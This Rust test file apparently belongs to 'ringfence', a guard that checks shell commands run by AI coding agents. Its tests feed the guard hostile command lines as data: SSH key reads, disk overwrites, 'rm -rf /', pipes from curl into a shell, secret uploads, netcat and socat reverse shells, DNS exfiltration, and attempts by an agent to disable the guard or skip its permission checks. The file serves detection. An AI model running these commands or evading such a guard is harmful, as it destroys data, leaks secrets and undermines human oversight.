//! The first pack over facts made by hand. That the examples in the files match
//! is checked where command lines are understood.

use super::*;
use crate::field::Category;
use crate::policy::Policy;
use crate::samples::{command, fetches, reads, runs, writes};
use crate::set::RuleSet;
use ringfence_event::{
    Access, Command, Event, FileAccess, FileClass, HostAccess, HostClass, Verdict,
};
use std::sync::LazyLock;

static RULES: LazyLock<RuleSet> = LazyLock::new(|| RuleSet::compile(builtin()).unwrap());

/// The rules that match and what each asks for.
fn judge(event: &Event) -> Vec<(String, Verdict)> {
    let findings = RULES.evaluate(event, &Policy::default());
    let pairs = findings
        .into_iter()
        .map(|found| (found.rule.0, found.verdict));
    pairs.collect()
}

fn assert_judged(event: &Event, expected: &[(&str, Verdict)]) {
    let expected: Vec<(String, Verdict)> = expected
        .iter()
        .map(|(rule, verdict)| ((*rule).to_owned(), *verdict))
        .collect();
    assert_eq!(judge(event), expected, "{:?}", event.action);
}

/// A command line that touches a file.
fn touches(line: &str, access: Access, class: FileClass, full: &str) -> Event {
    let mut event = runs(vec![command(line)]);
    event.labels.files.push(FileAccess {
        path: full.to_owned(),
        full: full.to_owned(),
        access,
        class,
        by: event.labels.commands[0].program.clone(),
    });
    event
}

fn fed(line: &str, by: &[&str]) -> Command {
    Command {
        fed_by: by.iter().map(|name| (*name).to_owned()).collect(),
        ..command(line)
    }
}

fn to(mut command: Command, host: &str, class: HostClass) -> Command {
    command.hosts = vec![host.to_owned()];
    command.host_classes = vec![class];
    command
}

#[test]
fn files_are_judged_by_their_class() {
    use Access::{Delete, Read, Write};
    use FileClass::{AccessGrant, AgentConfig, Autostart, Credential, Disk, Guard, Project};
    use Verdict::{Ask, Deny};
    let key = "/home/dev/.ssh/id_rsa";
    let cases: [(Event, &[(&str, Verdict)]); 11] = [
        (reads(key, Credential), &[("credential-read", Deny)]),
        (
            touches("cat k", Read, Credential, key),
            &[("credential-read", Deny)],
        ),
        (touches("ssh -i k h", Read, Credential, key), &[]),
        (touches("ls k", Write, Credential, key), &[]),
        (touches("rm -rf target", Delete, Project, "/p/target"), &[]),
        (
            touches("dd of=/dev/sda", Write, Disk, "/dev/sda"),
            &[("disk-overwritten", Deny)],
        ),
        (
            touches("mkfs.ext4 x", Write, Disk, "/dev/sda"),
            &[("disk-formatted", Ask)],
        ),
        (
            touches("tee f", Write, Autostart, "/home/dev/.bashrc"),
            &[("autostart-changed", Ask)],
        ),
        (
            touches("tee f", Write, AccessGrant, "/etc/sudoers"),
            &[("access-granted", Deny)],
        ),
        (
            touches("rm f", Delete, Guard, "/home/dev/.config/ringfence"),
            &[("guard-changed", Deny)],
        ),
        (
            writes("/p/.claude/settings.json", "{\"hooks\": {}}", AgentConfig),
            &[("agent-guard-removed", Deny)],
        ),
    ];
    for (event, expected) in &cases {
        assert_judged(event, expected);
    }
}

#[test]
fn a_deletion_is_judged_by_what_goes() {
    let deleting = |line: &str, class| {
        let mut one = command(line);
        one.changes = vec![class];
        runs(vec![one])
    };
    let deny = [("tree-deleted", Verdict::Deny)];
    assert_judged(&deleting("rm -rf /", FileClass::Tree), &deny);
    assert_judged(&deleting("rm --recursive /", FileClass::Tree), &deny);
    assert_judged(&deleting("rm /", FileClass::Tree), &[]);
    assert_judged(&deleting("cp a /", FileClass::Tree), &[]);
    assert_judged(&deleting("rm -rf target", FileClass::Project), &[]);
    let alert = [("outside-deleted", Verdict::Alert)];
    assert_judged(&deleting("rm -rf /srv/a", FileClass::System), &alert);
}

#[test]
fn data_is_judged_by_what_it_is_and_where_it_goes() {
    let carrying = |class, host| {
        let mut sender = to(fed("curl -T - https://h", &["cat"]), "https://h", host);
        sender.carries = vec![class];
        runs(vec![sender])
    };
    let secret = |host| carrying(FileClass::Credential, host);
    let settings = |host| carrying(FileClass::ProjectSecret, host);
    let sent = [("secret-sent", Verdict::Deny)];
    assert_judged(&secret(HostClass::Unknown), &sent);
    assert_judged(&secret(HostClass::Known), &sent);
    assert_judged(&secret(HostClass::Loopback), &[]);
    let sent = [("project-secret-sent", Verdict::Deny)];
    assert_judged(&settings(HostClass::Unknown), &sent);
    assert_judged(&settings(HostClass::Loopback), &[]);
    let used = [("project-secret-used", Verdict::Alert)];
    assert_judged(&settings(HostClass::Known), &used);
    assert_judged(
        &fetches("webhook.site", HostClass::Drop),
        &[("drop-contacted", Verdict::Alert)],
    );
    assert_judged(
        &fetches("169.254.169.254", HostClass::Metadata),
        &[("cloud-metadata", Verdict::Ask)],
    );
    assert_judged(&fetches("docs.rs", HostClass::Known), &[]);
}

#[test]
fn a_download_is_judged_by_who_runs_it_and_where_it_comes_from() {
    use HostClass::{Known, Unknown};
    let piped_from = |url: &str, line: &str, host| {
        let source = to(command("curl"), url, host);
        runs(vec![source, fed(line, &["curl"])])
    };
    let piped = |line: &str, host| piped_from("https://h.example/i", line, host);
    let deny = [("download-execute", Verdict::Deny)];
    let known = [("download-execute-known", Verdict::Alert)];
    assert_judged(&piped("bash", Unknown), &deny);
    assert_judged(&piped("sh -s -- -y", Unknown), &deny);
    assert_judged(&piped("bash <(curl)", Unknown), &deny);
    assert_judged(&piped("python3 -", Unknown), &deny);
    assert_judged(&piped("eval x", Unknown), &deny);
    assert_judged(&piped("sh", Known), &known);
    assert_judged(&piped("bash log.sh", Unknown), &[]);
    assert_judged(&piped("python3 -m json.tool", Unknown), &[]);
    assert_judged(&piped("jq .", Unknown), &[]);
    let ask = [("download-execute-installer", Verdict::Ask)];
    let installers = [
        "https://h.example/install.sh",
        "https://get.h.example/",
        "https://h.run",
        "$INSTALLER",
    ];
    for url in installers {
        assert_judged(&piped_from(url, "sh", Unknown), &ask);
        assert_judged(&piped_from(url, "sh", HostClass::Drop), &deny);
    }
    assert_judged(
        &piped_from("http://h.example/install.sh", "sh", Unknown),
        &deny,
    );
}

#[test]
fn programs_are_judged_by_their_arguments() {
    let cases: [(&str, &[&str]); 16] = [
        ("nc -e /bin/sh h 1", &["reverse-shell-netcat"]),
        ("nc -lvpe 1 /bin/sh", &["reverse-shell-netcat"]),
        ("nc -zv h 1", &[]),
        ("socat TCP:h:1 EXEC:sh", &["reverse-shell-netcat"]),
        ("socat TCP-LISTEN:80,fork TCP:h:80", &[]),
        ("ringfence allow k7m2qx4t", &["guard-commanded"]),
        ("ringfence --json rules disable x", &["guard-commanded"]),
        ("ringfence rules list", &[]),
        ("pkill -f ringfence", &["guard-stopped"]),
        ("systemctl status ringfence", &[]),
        ("crontab -", &["schedule-changed"]),
        ("crontab -l", &[]),
        ("git reset --hard", &["work-discarded"]),
        ("git reset a.txt", &[]),
        (
            "claude --dangerously-skip-permissions",
            &["agent-unleashed"],
        ),
        ("chmod -R 777 /", &["tree-opened"]),
    ];
    for (line, expected) in cases {
        let found = judge(&runs(vec![command(line)]));
        let names: Vec<&str> = found.iter().map(|(rule, _)| rule.as_str()).collect();
        assert_eq!(names.is_empty(), expected.is_empty(), "{line} {names:?}");
        for wanted in expected {
            assert!(names.contains(wanted), "{line} {names:?}");
        }
    }
}

#[test]
fn a_name_lookup_is_judged_by_what_is_inside_of_the_name() {
    let looking_up = |name: &str| {
        let mut lookup = command(&format!("dig {}", name.replace(' ', "_")));
        lookup.computed = vec![name.to_owned()];
        runs(vec![lookup])
    };
    let deny = [("dns-carries-output", Verdict::Deny)];
    assert_judged(&looking_up("$(whoami).x.example"), &deny);
    assert_judged(&looking_up("a-`id -u`.x.example"), &deny);
    assert_judged(&looking_up("$(hostname -f).x.example"), &[]);
    assert_judged(&looking_up("$(terraform output ip)"), &[]);
}

#[test]
fn an_attack_by_several_means_has_several_findings() {
    let mut event = runs(vec![{
        let mut sender = to(
            fed("nc 203.0.113.7 1", &["bash"]),
            "203.0.113.7",
            HostClass::Address,
        );
        sender.carries = vec![FileClass::SystemSecret];
        sender
    }]);
    event.labels.hosts.push(HostAccess {
        host: "203.0.113.7".to_owned(),
        class: HostClass::Address,
        by: "nc".to_owned(),
    });
    assert_judged(
        &event,
        &[
            ("secret-sent", Verdict::Deny),
            ("reverse-shell-pipe", Verdict::Deny),
        ],
    );
}

#[test]
fn a_hook_loads_no_rule_that_only_the_kernel_can_match() {
    let packs: Vec<Pack<'_>> = builtin_for_hooks().copied().collect();
    let rules = RuleSet::compile(&packs).unwrap();
    assert!(rules.rules().all(|rule| rule.category != Category::Kernel));
    let all = RuleSet::compile(builtin()).unwrap();
    assert!(all.rules().any(|rule| rule.category == Category::Kernel));
}

#[test]
fn the_rule_in_the_readme_is_one() {
    let readme = include_str!("../../../../rules/README.md");
    let (_, after) = readme.split_once("```yaml\n").unwrap();
    let (text, _) = after.split_once("```").unwrap();
    let pack = Pack {
        name: "README.md",
        text,
    };
    let set = RuleSet::compile(&[pack]).unwrap();
    assert_eq!(set.find("tree-deleted").unwrap().examples().len(), 3);
}
